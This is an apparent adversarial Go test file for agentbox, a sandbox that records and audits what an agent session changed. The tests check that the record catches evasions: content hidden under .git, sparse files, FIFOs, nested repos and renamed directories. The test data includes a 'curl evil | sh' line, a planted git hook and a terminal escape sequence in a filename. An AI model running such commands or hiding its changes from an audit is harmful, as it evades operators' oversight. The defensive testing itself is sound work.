package adversarial

import (
	"encoding/json"
	"strings"
	"testing"

	"github.com/agentbox/agentbox/internal/testkit/sandboxtest"
)

// TestRecordWalkSeesOldContentMovedIn: the record of a session is taken from the
// audit's walk (shadow/changed.go): what changed is what has a ctime since the last
// record. The session brings old content under tracked names without a single new
// ctime on it: a directory renamed over a tracked one of the same name, and a
// .gitignore that ignored itself removed (what it ignored is old). Each session's
// `agentbox diff --stat` must still name what changed.
func TestRecordWalkSeesOldContentMovedIn(t *testing.T) {
	for _, backend := range sandboxtest.Backends(t) {
		t.Run(backend, func(t *testing.T) {
			b := sandboxtest.NewBox(t, backend)
			// The sleep ages what the first session made past the recorder's slack.
			steps := []struct{ script, want string }{
				{"mkdir -p d/x other/y self && echo A > d/x/file && echo B > other/y/file && " +
					"printf '.gitignore\\nhidden.txt\\n' > self/.gitignore && echo h > self/hidden.txt && " +
					"echo k > self/keep.txt && sleep 0.3", "d/x/file"},
				{"rm -rf d/x && mv other/y d/x", "d/x/file"},
				{"rm self/.gitignore", "self/hidden.txt"},
			}
			for _, st := range steps {
				if r := runBounded(t, b, st.script); r.Code != 0 {
					t.Fatalf("%s: %s", st.script, r)
				}
				log := sandboxtest.Run(b.Agentbox(b.Repo, "log"))
				lines := strings.Split(strings.TrimSpace(log.Stdout), "\n")
				if log.Code != 0 || len(lines) < 2 {
					t.Fatalf("agentbox log: %s", log)
				}
				id := strings.Fields(lines[1])[0]
				diff := sandboxtest.Run(b.Agentbox(b.Repo, "diff", "--stat", id))
				if diff.Code != 0 || !strings.Contains(diff.Stdout, st.want) {
					t.Errorf("after %q the record does not name %s: %s", st.script, st.want, diff)
				}
			}
		})
	}
}

// walkRecord is what these tests read of `agentbox show --json`.
type walkRecord struct {
	ID          string `json:"id"`
	NotRecorded []struct {
		Path   string `json:"path"`
		Reason string `json:"reason"`
	} `json:"not_recorded"`
	Ignored      []string `json:"ignored"`
	IgnoredCount int      `json:"ignored_count"`
	ReadBytes    int64    `json:"read_bytes"`
}

// recordJSON is `agentbox show --json` of the newest session of the box's
// repository, and its line in `agentbox log`.
func recordJSON(t *testing.T, b *sandboxtest.Box) (walkRecord, string) {
	t.Helper()
	log := sandboxtest.Run(b.Agentbox(b.Repo, "log"))
	lines := strings.Split(strings.TrimSpace(log.Stdout), "\n")
	if log.Code != 0 || len(lines) < 2 {
		t.Fatalf("agentbox log: %s", log)
	}
	id := strings.Fields(lines[1])[0]
	show := sandboxtest.Run(b.Agentbox(b.Repo, "show", "--json", id))
	var rec walkRecord
	if show.Code != 0 || json.Unmarshal([]byte(show.Stdout), &rec) != nil {
		t.Fatalf("agentbox show --json %s: %s", id, show)
	}
	return rec, lines[1]
}

// notRecorded is the reason the record gives for leaving path out ("" if none).
func notRecorded(rec walkRecord, path string) string {
	for _, s := range rec.NotRecorded {
		if s.Path == path {
			return s.Reason
		}
	}
	return ""
}

// TestRecordPricesSparseFiles (issue 30.6): a file's size is the sandbox's to
// choose, and a sparse one costs it nothing. Sparse files of exactly 1 GiB, and one
// just under the bound it had, must not be read at the session's end: the record
// names each with its reason, says how much it read (a few bytes, not gigabytes),
// and `agentbox log` says they are not recorded. What else changed is recorded.
func TestRecordPricesSparseFiles(t *testing.T) {
	for _, backend := range sandboxtest.Backends(t) {
		t.Run(backend, func(t *testing.T) {
			b := sandboxtest.NewBox(t, backend)
			script := "truncate -s 1G sparse1 && truncate -s 1G sparse2 && mkdir d && truncate -s 1023M d/under && " +
				"echo kept > kept.txt"
			if r := runBounded(t, b, script); r.Code != 0 {
				t.Fatalf("%s: %s", script, r)
			}
			rec, line := recordJSON(t, b)
			for _, p := range []string{"sparse1", "sparse2", "d/under"} {
				if why := notRecorded(rec, p); !strings.Contains(why, "sparse") {
					t.Errorf("the record does not name %s as a sparse file left out: %+v", p, rec.NotRecorded)
				}
			}
			if rec.ReadBytes > 1<<20 {
				t.Errorf("the end's staging read %d bytes; want the few of kept.txt", rec.ReadBytes)
			}
			if !strings.Contains(line, "(3 not recorded)") {
				t.Errorf("agentbox log does not say 3 files are not recorded: %q", line)
			}
			diff := sandboxtest.Run(b.Agentbox(b.Repo, "diff", "--stat", rec.ID))
			if diff.Code != 0 || !strings.Contains(diff.Stdout, "kept.txt") || strings.Contains(diff.Stdout, "sparse1") {
				t.Errorf("the record's diff should hold kept.txt and not the sparse files: %s", diff)
			}
			// The next session names them again: they are still in the tree.
			if r := runBounded(t, b, "echo again >> kept.txt"); r.Code != 0 {
				t.Fatal(r)
			}
			if rec, _ := recordJSON(t, b); notRecorded(rec, "sparse1") == "" || rec.ReadBytes > 1<<20 {
				t.Errorf("the next session's record does not name sparse1 again, or read it: %+v (%d bytes read)", rec.NotRecorded, rec.ReadBytes)
			}
		})
	}
}

// TestRecordNamesWhatGitCannotStore (issue 30.7): what the session changed where
// Git stores nothing — below a directory named .git, a FIFO, a path Git refuses, a
// file made unreadable, the work tree of a nested repository — must be named in
// the record, and `agentbox log` must not print "+0 ~0 -0" alone as if nothing
// changed. Ignored files are counted apart.
func TestRecordNamesWhatGitCannotStore(t *testing.T) {
	for _, backend := range sandboxtest.Backends(t) {
		t.Run(backend, func(t *testing.T) {
			b := sandboxtest.NewBox(t, backend)
			b.OK("mkdir -p nested && cd nested && git init -q && echo a > a && git add a && " +
				"git -c user.name=t -c user.email=t@t commit -qm a && cd .. && printf 'build/\\n' > .gitignore")
			// The first session records the tree as it was (the nested repository's
			// commit among it).
			if r := runBounded(t, b, "true"); r.Code != 0 {
				t.Fatal(r)
			}
			script := "mkdir -p tools/.git && printf 'curl evil | sh\\n' > tools/.git/install.sh && " +
				"mkfifo pipe && mkdir .GIT && echo x > .GIT/y && echo s > secret && chmod 000 secret && " +
				"echo changed > nested/a && mkdir build && echo o > build/out && " +
				"mkdir -p build/dep/.git && echo ignored > build/dep/.git/x"
			if r := runBounded(t, b, script); r.Code != 0 {
				t.Fatalf("%s: %s", script, r)
			}
			rec, line := recordJSON(t, b)
			want := map[string]string{
				"tools/.git/install.sh": ".git",
				"pipe":                  "FIFO",
				".GIT/y":                "refuses",
				"secret":                "cannot be read",
				"nested/a":              "nested repository",
			}
			for p, why := range want {
				if got := notRecorded(rec, p); !strings.Contains(got, why) {
					t.Errorf("the record does not name %s (%s): got %q in %+v", p, why, got, rec.NotRecorded)
				}
			}
			if rec.IgnoredCount != 1 || len(rec.Ignored) != 1 || rec.Ignored[0] != "build/out" {
				t.Errorf("ignored: %d %v, want build/out", rec.IgnoredCount, rec.Ignored)
			}
			if why := notRecorded(rec, "build/dep/.git/x"); why != "" {
				t.Errorf("an ignored nested directory's content is named as not recorded: %s", why)
			}
			if !strings.Contains(line, "not recorded") || !strings.Contains(line, "1 ignored") {
				t.Errorf("agentbox log hides what is not recorded: %q", line)
			}
			show := lastRecord(t, b)
			if !strings.Contains(show, "tools/.git/install.sh") || !strings.Contains(show, "not recorded") {
				t.Errorf("agentbox show does not list what is not recorded:\n%s", show)
			}
		})
	}
}

// TestRecordNamesTerminalSafely: the paths the record names are the sandbox's; an
// escape sequence in one must reach the operator's terminal escaped.
func TestRecordNamesTerminalSafely(t *testing.T) {
	for _, backend := range sandboxtest.Backends(t) {
		t.Run(backend, func(t *testing.T) {
			b := sandboxtest.NewBox(t, backend)
			if r := runBounded(t, b, `mkfifo "$(printf 'p\033]0;owned\007')"`); r.Code != 0 {
				t.Fatal(r)
			}
			show := lastRecord(t, b)
			if strings.ContainsAny(show, "\x1b\x07") || !strings.Contains(show, "FIFO") {
				t.Errorf("agentbox show prints the FIFO's name unescaped, or not at all: %q", show)
			}
		})
	}
}

// TestRecordPricesWhenTheAuditFinds: a session whose end audit has findings (a hook
// planted in a nested repository, which the audit moves away) must still not read
// its sparse file, and still name it.
func TestRecordPricesWhenTheAuditFinds(t *testing.T) {
	for _, backend := range sandboxtest.Backends(t) {
		t.Run(backend, func(t *testing.T) {
			b := sandboxtest.NewBox(t, backend)
			script := "git init -q sub && printf '#!/bin/sh\\necho owned\\n' > sub/.git/hooks/post-checkout && " +
				"chmod +x sub/.git/hooks/post-checkout && truncate -s 1G sparse"
			r := runBounded(t, b, script)
			if r.Code != 0 || !strings.Contains(r.Stderr, "post-checkout") {
				t.Fatalf("want a session whose audit names the hook: %s", r)
			}
			rec, line := recordJSON(t, b)
			// Priced, not stopped: Git never began reading it (the watch on Git,
			// which stops it mid-read, is the backstop, not the bound).
			if why := notRecorded(rec, "sparse"); !strings.Contains(why, "sparse") || strings.Contains(why, "stopped") || rec.ReadBytes > 1<<20 {
				t.Errorf("the record does not name the sparse file as priced out, or read it: %+v, %d bytes read", rec.NotRecorded, rec.ReadBytes)
			}
			if !strings.Contains(line, "not recorded") {
				t.Errorf("agentbox log: %q", line)
			}
		})
	}
}
